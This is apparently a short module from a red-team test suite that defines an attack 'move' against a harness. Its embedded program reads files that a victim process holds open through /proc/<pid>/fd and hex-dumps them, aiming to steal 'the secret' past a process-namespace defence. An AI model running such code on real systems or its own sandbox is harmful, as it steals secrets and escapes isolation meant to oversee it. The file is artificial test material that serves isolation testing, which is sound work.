"""Read the files that a process of the harness has open, through its descriptors."""

from red_team.moves import victim_moves

AIM = "the secret"
DEFENCE = "process namespace"

PROGRAM = """
import json, os
targets = json.loads(os.environ["TARGETS"])
import glob
for path in glob.glob(f"/proc/{targets['victim']}/fd/*") + glob.glob("/proc/[0-9]*/fd/0"):
    try:
        if os.path.isfile(path):
            print(open(path, "rb").read().hex())
    except OSError:
        pass
"""

attempt, control = victim_moves(PROGRAM)
